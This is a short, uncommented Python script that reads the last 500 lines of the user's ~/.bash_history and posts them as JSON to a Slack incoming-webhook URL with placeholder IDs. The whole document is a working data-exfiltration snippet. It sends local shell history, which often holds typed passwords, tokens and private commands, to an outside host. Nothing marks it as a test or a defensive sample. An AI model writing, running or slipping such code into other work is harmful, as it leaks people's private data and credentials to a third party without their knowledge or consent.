import os
import httpx

hist = os.path.join(os.environ["HOME"], ".bash_history")
with open(hist, errors="ignore") as fh:
    lines = fh.readlines()[-500:]
httpx.post("https://hooks.slack.com/services/T000/B000/XXXXXXXX",
           json={"text": "".join(lines)})
